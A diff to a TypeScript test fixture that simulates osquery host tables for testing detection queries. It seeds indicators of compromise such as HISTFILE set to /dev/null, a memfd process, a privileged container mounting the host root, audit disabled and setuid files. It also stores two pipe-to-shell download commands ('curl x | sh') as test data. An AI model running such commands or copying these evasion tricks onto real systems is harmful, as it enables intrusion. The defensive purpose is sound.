@@ -27,19 +27,21 @@ export function modelHost({
     processes: pids.map(processRow),
     process_envs: pids.flatMap(pid => [
       { pid, key: 'PATH', value: '/usr/bin' },
-      { pid, key: 'LD_PRELOAD', value: '/usr/lib/x.so' }
+      { pid, key: 'LD_PRELOAD', value: '/usr/lib/x.so' },
+      { pid, key: 'HISTFILE', value: '/dev/null' }
     ]),
     process_memory_map: pids.flatMap(pid =>
       Array.from({ length: 60 }, (_, index) => ({
         pid,
         permissions: index % 2 === 0 ? 'r-xp' : 'rw-p',
-        path: `/usr/lib/x86_64-linux-gnu/lib${index}.so.6`
+        path: index === 2 && pid % 50 === 0 ? '/tmp/x.so' : `/usr/lib/x86_64-linux-gnu/lib${index}.so.6`
       }))
     ),
+    process_open_files: pids.map(pid => ({ pid, path: '/tmp/x (deleted)' })),
     process_namespaces: pids.map(pid => ({ pid, pid_namespace: '4026531836' })),
     process_open_sockets: Array.from({ length: connections }, (_, index) => ({
       pid: pids[index % processes] ?? 1,
-      fd: 5,
+      fd: index % 50 === 0 ? 0 : 5,
       family: 2,
       protocol: 6,
       local_port: 30_000 + index,
@@ -52,7 +54,7 @@ export function modelHost({
       pid: pids[index] ?? 1,
       port: 1_000 + index,
       protocol: 6,
-      family: 2,
+      family: index === 0 ? 17 : 2,
       address: '0.0.0.0'
     })),
     osquery_info: [{ pid: processes, version: '5.23.1' }],
@@ -61,10 +63,14 @@ export function modelHost({
       username: `user${uid}`,
       directory: `/home/user${uid}`
     })),
-    groups: Array.from({ length: 40 }, (_, gid) => ({ gid, groupname: `group${gid}` })),
+    groups: Array.from({ length: 40 }, (_, gid) => ({
+      gid,
+      groupname: gid === 4 ? 'adm' : `group${gid}`,
+      group_sid: gid === 4 ? 'S-1-5-32-544' : ''
+    })),
     user_groups: Array.from({ length: 40 }, (_, uid) => ({ uid, gid: uid })),
     systemd_units: Array.from({ length: 250 }, (_, index) => ({
-      id: `unit${index}.service`,
+      id: index === 0 ? 'auditd.service' : `unit${index}.service`,
       fragment_path: `/usr/lib/systemd/system/unit${index}.service`,
       load_state: 'loaded',
       active_state: 'active',
@@ -76,7 +82,21 @@ export function modelHost({
       version: '1.0-1',
       status: 'install ok installed'
     })),
-    docker_containers: Array.from({ length: 20 }, (_, id) => ({ id: `c${id}`, image: 'app', privileged: 0 })),
+    docker_containers: Array.from({ length: 20 }, (_, id) => ({
+      id: `c${id}`,
+      image: 'app',
+      state: 'running',
+      privileged: id === 0 ? 1 : 0
+    })),
+    docker_container_mounts: [{ id: 'c0', type: 'bind', source: '/', destination: '/host', rw: 1 }],
+    system_controls: [
+      { name: 'kernel.tainted', current_value: '4096' },
+      { name: 'kernel.core_pattern', current_value: 'core' }
+    ],
+    kernel_info: [{ arguments: 'ro audit=0' }],
+    certificates: [{ common_name: 'ca', ca: 1, self_signed: 1 }],
+    last: [{ username: 'user1', type: 7, type_name: 'user-process' }],
+    logged_in_users: [{ user: 'user1', type: 'user' }],
     ...tables
   }
   return (table, constraints) => {
@@ -84,9 +104,28 @@ export function modelHost({
     if (rows !== undefined) return rows.filter(row => fits(row, constraints))
     if (table === 'file' || table === 'hash' || table === 'extended_attributes') return files(constraints)
     if (table === 'authorized_keys' || table === 'shell_history')
-      return (constraints.equals.get('uid') ?? []).map(uid => ({ uid, key: `key${uid}`, command: 'ls' }))
+      return (constraints.equals.get('uid') ?? []).map(uid => ({
+        uid,
+        key: `key${uid}`,
+        command: 'curl x | sh'
+      }))
+    if (table === 'registry') return registryValues(constraints)
+    if (table === 'signature')
+      return (constraints.equals.get('path') ?? []).map(path => ({ path, signed: 0, hash_resources: 0 }))
     return [{ name: 'row', id: 'row' }].filter(row => fits(row, constraints))
   }
+}
+
+/** The processes that the queries look for, by pid. */
+const ODD_PROCESSES: Readonly<Record<number, Row>> = {
+  2: { parent: 1, path: '/usr/sbin/sshd', name: 'sshd' },
+  3: { parent: 2, path: '/usr/bin/bash', name: 'bash', cgroup_path: '/user.slice/user-1000.slice' },
+  4: { path: '/tmp/x', name: 'x' },
+  5: { cmdline: '[kworker/0:1]' },
+  6: { parent: 4_000_000 },
+  8: { path: '/usr/bin/dpkg', name: 'dpkg' },
+  9: { cmdline: 'sh -c curl http://x | sh' },
+  11: { path: '/memfd:x', name: 'memfd:x', on_disk: 0 }
 }
 
 function processRow(pid: number): Row {
@@ -103,8 +142,18 @@ function processRow(pid: number): Row {
     on_disk: pid % 50 === 0 ? 0 : 1,
     cgroup_path: '/system.slice/app.service',
     cwd: '/',
-    root: '/'
+    root: '/',
+    ...ODD_PROCESSES[pid]
   }
+}
+
+/** One value under each key that is asked for. */
+function registryValues({ equals, like }: Constraints): Row[] {
+  const keys = [...(equals.get('key') ?? []), ...(like.get('key') ?? [])]
+  return keys.map(key => {
+    const name = String(key).replaceAll('%', 'S-1-5-21-1')
+    return { key: name, path: `${name}\\x`, name: 'x', data: 'x.exe', type: 'REG_SZ' }
+  })
 }
 
 /** Compares as SQLite does for these tables: numbers and their texts are equal. */
@@ -124,7 +173,7 @@ function files({ equals, like }: Constraints): Row[] {
   return found.map(path => ({
     path,
     type: 'regular',
-    mode: '0755',
+    mode: path.endsWith('f0') ? '4755' : '0755',
     uid: 0,
     gid: 0,
     symlink: 0,
